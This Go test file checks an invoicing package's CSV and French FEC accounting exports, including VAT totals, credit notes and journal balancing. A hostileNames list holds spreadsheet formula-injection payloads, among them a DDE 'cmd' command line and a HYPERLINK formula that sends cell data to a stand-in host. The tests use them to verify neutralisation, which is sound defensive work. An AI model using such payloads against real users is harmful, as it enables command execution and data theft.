package invoicing_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/relais-tierslieux/relais/invoicing"
)

// exportDocs issues, for entity A: a day pass paid by card, a business
// invoice at two rates paid by cheque, an unpaid invoice, a pass paid in
// cash, and a credit note refunding the card pass; for entity B (exempt) a
// pass; and for entity A one more invoice the next month.
func exportDocs(t *testing.T, e *invEnv) (card, credit *invoicing.Invoice) {
	t.Helper()
	card = e.issue(t, e.dayPass(e.site, 1))

	b2b := e.dayPass(e.site2, 1)
	b2b.Buyer = e.businessBuyer()
	b2b.Lines = append(b2b.Lines, invoicing.InvoiceLineInput{Description: "Repas", QuantityMilli: 2000, UnitPriceCents: 1000, VATRateBP: 1000})
	b2b.Payment.Method = invoicing.MethodCheque
	e.issue(t, b2b)

	unpaid := e.dayPass(e.site, 1)
	unpaid.Payment, unpaid.DueDate = nil, "2026-04-08"
	unpaid.Buyer.Name = "=HYPERLINK(\"http://x\")"
	e.issue(t, unpaid)

	cash := e.dayPass(e.site, 2)
	cash.Payment.Method = invoicing.MethodCash
	e.issue(t, cash)

	var err error
	credit, err = e.iv.IssueCreditNote(context.Background(), e.db, card.ID, invoicing.CreditNoteInput{Reason: "Annulation",
		Refund: &invoicing.InvoicePayment{PaidAt: e.clock.Now(), Method: invoicing.MethodCard}})
	if err != nil {
		t.Fatal(err)
	}
	e.issue(t, e.dayPass(e.exempt, 1))

	e.clock.Set(time.Date(2026, 4, 2, 10, 0, 0, 0, parisZone))
	e.issue(t, e.dayPass(e.site, 1))
	return card, credit
}

var marchPeriod = struct{ from, to time.Time }{
	time.Date(2026, 3, 1, 0, 0, 0, 0, parisZone), time.Date(2026, 4, 1, 0, 0, 0, 0, parisZone),
}

func TestCSVExport(t *testing.T) {
	e := newInvEnv(t)
	exportDocs(t, e)
	var buf bytes.Buffer
	if err := e.iv.CSV(context.Background(), &buf, invoicing.InvoiceFilter{From: marchPeriod.from, To: marchPeriod.to}); err != nil {
		t.Fatal(err)
	}
	raw := buf.Bytes()
	if !bytes.HasPrefix(raw, []byte("\xef\xbb\xbf")) {
		t.Fatal("no UTF-8 byte order mark")
	}
	if !bytes.Contains(raw, []byte("\r\n")) {
		t.Error("rows should end with CRLF")
	}
	r := csv.NewReader(bytes.NewReader(raw[3:]))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := rows[0]
	col := func(name string) int {
		for i, h := range header {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %q in %q", name, header)
		return -1
	}
	if header[0] != "Numéro" || len(rows) != 1+6 {
		t.Fatalf("header %q, %d rows; want 6 documents of March", header, len(rows)-1)
	}
	byNumber := map[string][]string{}
	for _, row := range rows[1:] {
		if len(row) != len(header) {
			t.Fatalf("row %q has %d fields", row, len(row))
		}
		byNumber[row[col("SIREN émetteur")]+"/"+row[0]] = row
	}
	first := byNumber[entityA+"/2026-000001"]
	if first[col("Total HT")] != "20,83" || first[col("TVA 20 %")] != "4,17" || first[col("Total TTC")] != "25,00" ||
		first[col("Date")] != "09/03/2026" || first[col("Mode de paiement")] != "carte bancaire" || first[col("Site")] != "La Fabrique du Bourg" {
		t.Fatalf("first invoice row %q", first)
	}
	credit := byNumber[entityA+"/2026-000005"]
	if credit[col("Type")] != "Avoir" || credit[col("Facture d'origine")] != "2026-000001" || credit[col("Total TTC")] != "-25,00" || credit[col("HT 20 %")] != "-20,83" {
		t.Fatalf("credit note row %q", credit)
	}
	b2b := byNumber[entityA+"/2026-000002"]
	if b2b[col("Client professionnel")] != "oui" || b2b[col("SIREN client")] != "552100554" || b2b[col("HT 10 %")] != "20,00" || b2b[col("Site")] != "L'Atelier de la Gare" {
		t.Fatalf("business row %q", b2b)
	}
	if got := byNumber[entityA+"/2026-000003"][col("Client")]; !strings.HasPrefix(got, "'=") {
		t.Fatalf("a formula in a buyer name is written as %q", got)
	}
	if _, ok := byNumber[entityB+"/2026-000001"]; !ok {
		t.Fatal("the other entity's invoice is missing from an unfiltered export")
	}

	buf.Reset()
	if err := e.iv.CSV(context.Background(), &buf, invoicing.InvoiceFilter{SiteID: e.site2.ID}); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(buf.String(), "\r\n"); n != 2 {
		t.Fatalf("site filter: %d lines, want header + 1", n)
	}
}

var fecAmount = regexp.MustCompile(`^\d+,\d{2}$`)

func TestFEC(t *testing.T) {
	e := newInvEnv(t)
	_, credit := exportDocs(t, e)
	var buf bytes.Buffer
	if err := e.iv.FEC(context.Background(), &buf, entityA, marchPeriod.from, marchPeriod.to); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	want := "JournalCode\tJournalLib\tEcritureNum\tEcritureDate\tCompteNum\tCompteLib\tCompAuxNum\tCompAuxLib\tPieceRef\tPieceDate\tEcritureLib\tDebit\tCredit\tEcritureLet\tDateLet\tValidDate\tMontantdevise\tIdevise"
	if lines[0] != want {
		t.Fatalf("header = %q", lines[0])
	}
	cents := func(s string) int64 {
		n, err := strconv.ParseInt(strings.Replace(s, ",", "", 1), 10, 64)
		if err != nil {
			t.Fatalf("amount %q: %v", s, err)
		}
		return n
	}
	type entry struct {
		debit, credit int64
		accounts      []string
		journal       string
		piece         string
	}
	entries := map[string]*entry{}
	var order []string
	for _, line := range lines[1:] {
		f := strings.Split(line, "\t")
		if len(f) != 18 {
			t.Fatalf("%d fields in %q", len(f), line)
		}
		for _, i := range []int{3, 9, 15} {
			if _, err := time.Parse("20060102", f[i]); err != nil {
				t.Fatalf("date %q in %q", f[i], line)
			}
		}
		if !fecAmount.MatchString(f[11]) || !fecAmount.MatchString(f[12]) {
			t.Fatalf("amounts %q %q in %q", f[11], f[12], line)
		}
		if (cents(f[11]) == 0) == (cents(f[12]) == 0) {
			t.Fatalf("a line is either a debit or a credit: %q", line)
		}
		if f[8] == "" || f[8] == "2026-000001" && f[3] != "20260309" {
			t.Fatalf("piece/date in %q", line)
		}
		en := entries[f[2]]
		if en == nil {
			en = &entry{journal: f[0], piece: f[8]}
			entries[f[2]] = en
			order = append(order, f[2])
		}
		if en.journal != f[0] || en.piece != f[8] {
			t.Fatalf("entry %s mixes journals or pieces", f[2])
		}
		en.debit += cents(f[11])
		en.credit += cents(f[12])
		side, amount := "D", f[11]
		if cents(f[12]) > 0 {
			side, amount = "C", f[12]
		}
		acct := side + f[4]
		if f[4] == invoicing.AccountCustomers {
			if f[6] == "" {
				t.Fatalf("customer line without an auxiliary account: %q", line)
			}
			acct += ":" + amount
		}
		en.accounts = append(en.accounts, acct)
	}
	for num, en := range entries {
		if en.debit != en.credit {
			t.Errorf("entry %s (%s) is unbalanced: debit %d, credit %d", num, en.piece, en.debit, en.credit)
		}
	}
	// 5 sales entries and 4 settlements (the unpaid invoice has none); the
	// exempt entity and April stay out.
	got := map[string]string{}
	for _, num := range order {
		en := entries[num]
		got[en.journal+" "+en.piece] = strings.Join(en.accounts, " ")
	}
	wantEntries := map[string]string{
		"VE 2026-000001": "D411:25,00 C706 C44571",
		"BQ 2026-000001": "D512 C411:25,00",
		"VE 2026-000002": "D411:47,00 C706 C44571 C706 C44571",
		"BQ 2026-000002": "D5112 C411:47,00",
		"VE 2026-000003": "D411:25,00 C706 C44571",
		"VE 2026-000004": "D411:50,00 C706 C44571",
		"CA 2026-000004": "D530 C411:50,00",
		"VE 2026-000005": "C411:25,00 D706 D44571", // the credit note reverses its invoice
		"BQ 2026-000005": "C512 D411:25,00",        // and its refund the settlement
	}
	if len(got) != len(wantEntries) {
		t.Errorf("entries = %q", got)
	}
	for k, v := range wantEntries {
		if got[k] != v {
			t.Errorf("%s = %q, want %q", k, got[k], v)
		}
	}
	if credit.Number != "2026-000005" {
		t.Fatalf("premise: credit note is %s", credit.Number)
	}
	// Entry numbers run per journal without gaps.
	if entries["VE000005"] == nil || entries["VE000006"] != nil || entries["BQ000003"] == nil || entries["CA000001"] == nil {
		t.Fatalf("entry numbers %q", order)
	}
}

func TestFECOfAnExemptEntity(t *testing.T) {
	e := newInvEnv(t)
	exportDocs(t, e)
	var buf bytes.Buffer
	if err := e.iv.FEC(context.Background(), &buf, entityB, marchPeriod.from, marchPeriod.to); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	// No VAT, so no 44571 line: 411 against 706, then the settlement.
	if len(lines) != 1+2+2 || strings.Contains(buf.String(), "\t44571\t") {
		t.Fatalf("exempt FEC:\n%s", buf.String())
	}
}

// hostileNames are buyer names that try to run a formula in the spreadsheet
// of whoever opens an export, or to break the FEC's columns and lines.
var hostileNames = []string{
	`=HYPERLINK("http://x.example/?"&A1,"x")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1+1)`,
	`-2+3`,
	"＝1+1",
	"Jean\tDupont",
	"Jeanne\r\nDupré",
	"Zoé\vRoux\u2028et\u0085fils",
}

// issueHostile issues, for entity A in March, one paid day pass for each of
// hostileNames, and a credit note for the first.
func issueHostile(t *testing.T, e *invEnv) {
	t.Helper()
	var first *invoicing.Invoice
	for _, name := range hostileNames {
		in := e.dayPass(e.site, 1)
		in.Buyer.Name = name
		inv := e.issue(t, in)
		if first == nil {
			first = inv
		}
	}
	if _, err := e.iv.IssueCreditNote(context.Background(), e.db, first.ID, invoicing.CreditNoteInput{Reason: "Annulation",
		Refund: &invoicing.InvoicePayment{PaidAt: e.clock.Now(), Method: invoicing.MethodCard}}); err != nil {
		t.Fatal(err)
	}
}

func TestCSVExportNeutralisesFormulas(t *testing.T) {
	e := newInvEnv(t)
	issueHostile(t, e)
	var buf bytes.Buffer
	if err := e.iv.CSV(context.Background(), &buf, invoicing.InvoiceFilter{From: marchPeriod.from, To: marchPeriod.to}); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff"))))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+len(hostileNames)+1 {
		t.Fatalf("%d rows, want %d documents", len(rows)-1, len(hostileNames)+1)
	}
	client, total, kind := 6, 15, 1
	if rows[0][client] != "Client" || rows[0][total] != "Total TTC" {
		t.Fatalf("header %q", rows[0])
	}
	for i, name := range hostileNames {
		want := strings.ReplaceAll(name, "\r\n", "\n") // as encoding/csv reads a quoted line break
		if strings.ContainsAny(name[:1], "=+-@") || strings.HasPrefix(name, "＝") {
			want = "'" + name
		}
		if got := rows[1+i][client]; got != want {
			t.Errorf("buyer %q written as %q, want %q", name, got, want)
		}
		if got := rows[1+i][total]; got != "25,00" {
			t.Errorf("total %q, want 25,00", got)
		}
	}
	credit := rows[len(rows)-1]
	if credit[kind] != "Avoir" || credit[client] != "'"+hostileNames[0] || credit[total] != "-25,00" {
		t.Errorf("credit note row %q: the buyer quoted, the amount still the number -25,00", credit)
	}
}

func TestFECKeepsHostileNamesInTheirColumns(t *testing.T) {
	e := newInvEnv(t)
	issueHostile(t, e)
	var buf bytes.Buffer
	if err := e.iv.FEC(context.Background(), &buf, entityA, marchPeriod.from, marchPeriod.to); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	// Each document: 411, 706 and 44571 in VE, then 512 and 411 in BQ.
	if want := 1 + 5*(len(hostileNames)+1); len(lines) != want {
		t.Fatalf("%d lines, want %d:\n%s", len(lines), want, buf.String())
	}
	auxLibs := map[string]bool{}
	for _, line := range lines {
		f := strings.Split(line, "\t")
		if len(f) != 18 {
			t.Fatalf("%d fields in %q", len(f), line)
		}
		for _, field := range f {
			if strings.ContainsFunc(field, func(r rune) bool { return unicode.IsControl(r) || r == '\u2028' || r == '\u2029' }) {
				t.Fatalf("a control character or line separator in field %q of %q", field, line)
			}
		}
		if f[4] == invoicing.AccountCustomers {
			auxLibs[f[7]] = true
			if !strings.HasSuffix(f[10], f[7]) && !strings.HasPrefix(f[10], "Règlement") && !strings.HasPrefix(f[10], "Remboursement") {
				t.Errorf("EcritureLib %q does not end with the customer %q", f[10], f[7])
			}
		}
	}
	// Formula characters stay: the FEC is the books, read as text by
	// accounting software; only what would break a line or a column goes.
	for _, want := range []string{
		`=HYPERLINK("http://x.example/?"&A1,"x")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)`, `-2+3`, "＝1+1",
		"Jean Dupont", "Jeanne  Dupré", "Zoé Roux et fils",
	} {
		if !auxLibs[want] {
			t.Errorf("CompAuxLib %q missing; have %v", want, auxLibs)
		}
	}
}
